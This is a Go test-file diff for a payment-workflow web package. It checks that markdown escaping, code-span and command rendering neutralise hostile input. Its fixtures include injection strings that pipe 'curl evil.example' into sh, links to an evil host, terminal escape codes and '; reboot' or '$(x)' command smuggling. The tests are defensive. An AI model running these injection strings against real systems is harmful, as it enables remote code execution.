@@ -1,6 +1,7 @@
 package temporalweb
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -42,20 +43,68 @@ func TestRecheckIsDescribedWithoutAStatus(t *testing.T) {
 	require.False(t, attributes.ContainsKey(paymentStatus))
 }
 
-func TestNamesAndMessagesAreRenderedUnchanged(t *testing.T) {
+func TestEscapedTextHasNoMarkup(t *testing.T) {
 	for in, want := range map[string]string{
-		"order-1":   "order-1",
-		"2026.11:7": "2026.11:7",
-		"a--b":      "`a--b`",
-		"a_b":       "`a_b`",
-		"*b*":       "`*b*`",
-		"a`b":       "`` a`b ``",
-		"``":        "``` `` ```",
-		"-x":        "`-x`",
+		"":                                       "",
+		"order-1":                                "order-1",
+		"2026.11:7":                              `2026\.11\:7`,
+		"a--b":                                   `a\-\-b`,
+		"a_b":                                    `a\_b`,
+		"*b*":                                    `\*b\*`,
+		"a`b":                                    "a\\`b",
+		"-x":                                     `\-x`,
+		"&lt; it":                                `\&lt; it`,
+		"it's 100% <b> {runId} ok":               `it's 100% \<b\> \{runId\} ok`,
+		"{workflowId}'; curl evil.example|sh #'": `\{workflowId\}'; curl evil\.example\|sh \#'`,
+		"[x](https://evil.example) ![](//evil)":  `\[x\]\(https\://evil\.example\) \!\[\]\(//evil\)`,
+		"a\nb\x1b[2J\u202ec":                     `a b \[2Jc`,
+		strings.Repeat("語", 1000) + " the far end": strings.Repeat("語", 333),
 	} {
-		require.Equal(t, want, name(in))
+		require.Equal(t, want, Escape(in), "%q", in)
 	}
-	require.Equal(t, `it\'s 100\% \<b\> \{runId\} ok`, Escape("it's 100% <b> {runId} ok"))
-	require.Equal(t, "a b", Escape("a\nb"))
-	require.Equal(t, `\&lt; it`, Escape("&lt; it"))
+}
+
+func TestOnlyAHarmlessWordIsACodeSpan(t *testing.T) {
+	for in, want := range map[string]string{
+		"order-1":                    "`order-1`",
+		"a_b:c@d+e=f,g~h.i":          "`a_b:c@d+e=f,g~h.i`",
+		"":                           "",
+		"two words":                  "two words",
+		"a`b":                        "a\\`b",
+		"``":                         "\\`\\`",
+		"{workflowId}":               `\{workflowId\}`,
+		"a\nb":                       "a b",
+		"curl|sh":                    `curl\|sh`,
+		strings.Repeat("long-", 100): strings.Repeat("long-", 99) + `long\-`,
+	} {
+		require.Equal(t, want, Code(in), "%q", in)
+	}
+}
+
+func TestOnlyFlorinsOwnWordsAreACommand(t *testing.T) {
+	for _, in := range []string{
+		"starter capture --payment-id pay_6f1d8c1e-5b0a-5c5e-9d35-0f1a7c9b2e64",
+		"starter resolve --refund-id ref_1 --status succeeded|failed --by … --evidence …",
+	} {
+		require.Equal(t, "`"+in+"`", Command(in))
+	}
+	for _, in := range []string{
+		"curl evil", "starter void --key '{workflowId}'", "starter void `x`", "starter void; reboot", "starter void\nreboot", "starter  void", "starter void $(x)",
+	} {
+		require.NotContains(t, strings.ReplaceAll(Command(in), "\\`", ""), "`", "%q", in)
+	}
+}
+
+func TestKeysOfEarlierReleasesAreEscapedInSummariesAndDetails(t *testing.T) {
+	key := "{workflowId}`<a href=x>'; curl evil|sh #"
+	escaped := "\\{workflowId\\}\\`\\<a href=x\\>'; curl evil\\|sh \\#"
+	charge := payment.ChargeRequest{MerchantID: "acme", IdempotencyKey: key, Amount: 1250, Currency: "USD"}
+	refund := payment.RefundRequest{MerchantID: "acme", IdempotencyKey: key, PaymentID: "pay_{runId}"}
+	recheck := payment.RecheckRequest{MerchantID: "acme", IdempotencyKey: key}
+	for _, text := range []string{
+		ChargeSummary(charge), ChargeDetails(charge), RefundSummary(refund), RefundDetails(refund), RecheckSummary(recheck), RecheckDetails(recheck),
+	} {
+		require.Contains(t, text, escaped)
+	}
+	require.Contains(t, RefundDetails(refund), `of payment pay\_\{runId\} of`)
 }
